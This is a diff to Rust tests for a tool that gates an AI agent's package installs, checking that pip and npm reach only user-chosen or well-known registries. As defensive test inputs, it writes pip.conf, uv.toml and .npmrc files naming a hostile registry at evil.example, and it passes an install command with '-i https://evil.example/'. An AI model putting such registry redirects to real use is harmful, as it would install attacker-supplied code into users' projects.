@@ -205,8 +205,6 @@ fn what_is_not_there_inside_is_asked_about() {
 fn a_declared_install_reaches_the_registry_that_the_user_chose_and_nothing_else() {
     let scene = Scene::new();
     scene.sandbox.write_project("requirements.txt", "six\n");
-    // What the project names does not count.
-    scene.sandbox.write_project("pip.conf", "[global]\nindex-url = https://evil.example/simple\n");
     let ask = |command: &str, variables: &[(&str, &str)]| {
         let mut event = scene.claude("PreToolUse", command, &json!({"command": command}));
         event["permission_mode"] = json!("dontAsk");
@@ -215,7 +213,6 @@ fn a_declared_install_reaches_the_registry_that_the_user_chose_and_nothing_else(
             .clone()
     };
     let install = "pip install -r requirements.txt";
-    assert_eq!(ask(install, &[]), "deny");
     assert_eq!(ask(install, &[("PIP_INDEX_URL", "https://me:secret@pip.example/simple")]), "deny");
     let chosen = [("PIP_INDEX_URL", "https://pip.example/simple"), ("GOPROXY", "https://go.example")];
     assert_eq!(ask(install, &chosen), "allow");
@@ -227,9 +224,31 @@ fn a_declared_install_reaches_the_registry_that_the_user_chose_and_nothing_else(
     let record: Value = serde_json::from_slice(&fs::read(record).unwrap()).unwrap();
     assert_eq!(record["policy"]["network"], json!({"Hosts": ["pip.example:443"]}));
     assert_eq!(record["policy"]["environment"], json!(["PIP_INDEX_URL"]));
-    for command in ["pip install six", "npm ci", "pip install -r requirements.txt -i https://evil.example/"] {
+    for command in ["pip install six", "pip install -r requirements.txt -i https://evil.example/"] {
         assert_eq!(ask(command, &chosen), "deny", "{command}");
     }
+    // What the project names is reached by nobody, and nothing is installed from elsewhere in silence.
+    scene.sandbox.write_project("uv.toml", "index-url = \"https://evil.example/simple\"\n");
+    assert_eq!(ask(install, &chosen), "deny");
+}
+
+#[test]
+fn a_declared_install_reaches_the_well_known_registries_where_nobody_names_one() {
+    let scene = Scene::new();
+    let settings = r#"{"permissions":{"defaultMode":"auto"},"containment":{"projectCode":"contain"}}"#;
+    scene.sandbox.write_home(".config/portcullis/settings.json", settings);
+    scene.sandbox.write_project("package.json", "{\"dependencies\": {\"left-pad\": \"1\"}}");
+    scene.contained("t1", "npm ci");
+    let calls = scene.sandbox.home.join(".local/state/portcullis/calls");
+    let record = fs::read_dir(calls).unwrap().next().unwrap().unwrap().path();
+    let record: Value = serde_json::from_slice(&fs::read(record).unwrap()).unwrap();
+    let hosts = ["npmjs.org", "yarnpkg.com"].map(|domain| format!("registry.{domain}:443"));
+    assert_eq!(record["policy"]["network"], json!({"Hosts": hosts}));
+    // A registry that the repository names would otherwise lead the install out of the fence.
+    scene.sandbox.write_project(".npmrc", "registry=https://evil.example/\n");
+    let answer = scene.ask("t2", "npm ci");
+    assert_eq!(answer["permissionDecision"], "ask", "{answer}");
+    assert!(answer["permissionDecisionReason"].as_str().unwrap().contains("evil.example"), "{answer}");
 }
 
 #[test]
